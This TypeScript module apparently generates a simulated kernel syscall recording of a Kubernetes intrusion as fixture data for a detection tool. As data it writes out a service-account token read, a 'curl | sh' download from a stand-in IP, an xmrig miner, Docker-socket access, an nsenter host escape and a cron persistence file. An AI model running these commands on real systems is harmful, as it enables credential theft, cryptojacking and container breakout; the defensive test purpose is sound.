import { containers, type SampleContainer } from './containers.ts';

// What the kernel saw: somebody uses a hole in `reviews`, looks around, fetches a program, and reaches the build agent.

/** Seconds before now. */
type Before = number;

interface Call {
  readonly at: Before;
  readonly in: SampleContainer;
  readonly type: string;
  readonly process: Readonly<Record<string, unknown>>;
  readonly more?: Readonly<Record<string, unknown>>;
}

const { reviews, deployer } = containers;
/** Numbers of processes on the node. */
const server = 4100;
const agent = 5200;

function runs(at: Before, where: SampleContainer, exepath: string, args: readonly string[], more = {}): Call {
  const ppid = where === reviews ? server : agent;
  return { at, in: where, type: 'execve', process: { exepath, args, ppid, ...more } };
}

function reads(at: Before, where: SampleContainer, exepath: string, path: string): Call {
  return opens(at, where, exepath, path, 'O_RDONLY');
}

function opens(at: Before, where: SampleContainer, exepath: string, path: string, flags: string): Call {
  const fd = { num: 3, name: path };
  return {
    at,
    in: where,
    type: 'openat',
    process: { exepath, args: [path] },
    more: { fd, args: { name: path, flags }, result: 3 },
  };
}

function connects(at: Before, where: SampleContainer, exepath: string, peer: string, domain?: string): Call {
  const client = `${where.pod.ip}:40${(100 + at) % 900}`;
  const fd = { num: 5, client, server: peer, protocol: 'tcp', ...(domain === undefined ? {} : { domain }) };
  return { at, in: where, type: 'connect', process: { exepath, args: [] }, more: { args: {}, result: 0, fd } };
}

const calls: readonly Call[] = [
  runs(3540, reviews, '/bin/sh', ['-c', 'id; uname -a']),
  runs(3539, reviews, '/usr/bin/whoami', []),
  reads(3502, reviews, '/bin/cat', '/proc/1/environ'),
  reads(3481, reviews, '/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
  runs(3450, reviews, '/usr/bin/curl', ['-sk', 'https://kubernetes.default/api/v1/namespaces/bookshop/secrets']),
  runs(3392, reviews, '/usr/bin/dig', ['SRV', 'any.any.svc.cluster.local']),
  runs(3310, reviews, '/bin/sh', ['-c', 'curl -fsSL http://203.0.113.77/s.sh | sh']),
  runs(3304, reviews, '/tmp/.x/kworkerd', [], { exeUpperLayer: true }),
  runs(3180, reviews, '/tmp/.x/xmrig', ['-o', 'stratum+tcp://pool.example:3333', '-B'], { exeUpperLayer: true }),
  connects(3176, reviews, '/tmp/.x/xmrig', '198.51.100.9:3333', 'pool.supportxmr.com'),
  runs(1530, deployer, '/bin/bash', ['-i'], { tty: 34816 }),
  connects(1504, deployer, '/usr/bin/curl', '10.96.0.1:443'),
  {
    at: 1490,
    in: deployer,
    type: 'connect',
    process: { exepath: '/usr/bin/curl', args: ['--unix-socket', '/var/run/docker.sock', 'http://x/images/json'] },
    more: { args: {}, result: 0, fd: { num: 3, type: 'unix', name: '/var/run/docker.sock' } },
  },
  runs(1466, deployer, '/usr/bin/nsenter', ['-t', '1', '-m', '-u', '-i', '-n', '-p', 'bash']),
  reads(1440, deployer, '/bin/cat', '/proc/1/root/etc/kubernetes/kubelet.conf'),
  opens(1402, deployer, '/bin/sh', '/etc/cron.d/update-check', 'O_WRONLY|O_CREAT|O_TRUNC'),
];

/** The recording as lines in our own form, as if it had ended at `now`. */
export function kernelStory(now: Date): string[] {
  const told = Object.values(containers).map(({ node: _node, ...container }) => ({
    type: 'container',
    container: { ...container, type: 'containerd' },
  }));
  const started = [
    {
      type: 'process',
      process: {
        pid: server,
        exepath: '/app/reviews',
        args: ['--admin-password=…'],
        uid: 0,
        user: 'root',
        container: reviews.id,
      },
    },
    {
      type: 'process',
      process: {
        pid: agent,
        exepath: '/usr/local/bin/ci-agent',
        args: [],
        uid: 0,
        user: 'root',
        container: deployer.id,
      },
    },
  ];
  const events = calls.map(({ at, in: where, type, process, more }) => ({
    type,
    time: new Date(now.getTime() - at * 1000).toISOString(),
    node: where.node,
    process: { tty: 0, uid: 0, user: 'root', container: where.id, ...process },
    ...more,
  }));
  return [...told, ...started, ...events].map((line) => JSON.stringify(line));
}
